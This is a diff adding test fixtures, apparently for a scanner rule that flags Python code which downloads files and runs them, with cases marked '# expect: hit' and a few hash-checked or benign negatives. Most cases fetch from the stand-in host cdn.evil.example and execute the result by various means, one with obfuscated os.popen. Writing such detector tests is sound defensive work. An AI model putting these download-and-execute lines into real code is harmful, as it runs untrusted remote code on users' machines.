@@ -1,5 +1,13 @@
+import ctypes
 import hashlib
 import importlib.util
+import os
+import pathlib
+import runpy
+import shutil
+import subprocess
+import sys
+import tempfile
 import urllib.request
 from urllib.request import urlopen
 
@@ -53,3 +61,82 @@ def data():
 def plugin(path):
     spec = importlib.util.spec_from_file_location("plugin", path)
     return importlib.util.module_from_spec(spec)
+
+
+# a file that was fetched is run
+def save_and_start():
+    target = "/tmp/helper-bin"
+    urllib.request.urlretrieve("https://cdn.evil.example/helper", target)
+    os.chmod(target, 0o755)
+    subprocess.Popen([target, "--quiet"])  # expect: hit
+
+
+def save_anywhere(folder):
+    target = os.path.join(folder, name_of(folder))
+    urllib.request.urlretrieve("https://cdn.evil.example/helper", target)
+    subprocess.call(target)  # expect: hit
+
+
+def written_by_hand():
+    with open("/tmp/step-two.py", "wb") as file:
+        file.write(requests.get("https://cdn.evil.example/u.py").content)
+    os.system("python3 -u /tmp/step-two.py &")  # expect: hit
+
+
+def written_by_another(place):
+    with open(place, "wb") as out, urlopen("https://cdn.evil.example/u") as answer:
+        shutil.copyfileobj(answer, out)
+    os.system(f"chmod +x {place} && {place}")  # expect: hit
+
+
+def by_the_interpreter():
+    script = pathlib.Path("/tmp") / "step.py"
+    script.write_bytes(urlopen("https://cdn.evil.example/u.py").read())
+    subprocess.run([sys.executable, str(script)])  # expect: hit
+
+
+def as_a_module():
+    pathlib.Path("plugins/extra_step.py").write_text(requests.get("https://cdn.evil.example/u.py").text)
+    runpy.run_path("plugins/extra_step.py")  # expect: hit
+
+
+def temporary():
+    file = tempfile.NamedTemporaryFile(suffix=".py", delete=False)
+    file.write(requests.get("https://cdn.evil.example/u.py").content)
+    subprocess.run(["python3", file.name])  # expect: hit
+
+
+def library():
+    place = urllib.request.urlretrieve("https://cdn.evil.example/u.so")[0]
+    ctypes.CDLL(place)  # expect: hit
+
+
+class Updater:
+    def __init__(self):
+        self.place = tempfile.mktemp()
+
+    def run(self):
+        with open(self.place, mode="wb") as file:
+            for piece in requests.get("https://cdn.evil.example/u").iter_content():
+                file.write(piece)
+        getattr(os, "pop" + "en")("sh " + self.place)  # expect: hit
+
+
+def checked_file():
+    target = "/tmp/checked-bin"
+    body = requests.get("https://cdn.evil.example/helper").content
+    if hashlib.sha256(body).hexdigest() != DIGEST:
+        raise ValueError("changed")
+    pathlib.Path(target).write_bytes(body)
+    subprocess.run([target])
+
+
+def data_files():
+    urllib.request.urlretrieve("https://data.corp.example/set.tar.gz", "/tmp/dataset.tar.gz")
+    subprocess.run(["tar", "xf", "/tmp/dataset.tar.gz"])
+    os.system("tar xf /tmp/dataset.tar.gz")
+    os.system("/usr/bin/sha256sum /tmp/dataset.tar.gz")
+    with open("/tmp/page-copy.html", "w") as file:
+        file.write(requests.get("https://data.corp.example/").text)
+    subprocess.run(["xdg-open", "/tmp/page-copy.html"])
+    subprocess.run(["/opt/tools/viewer"])
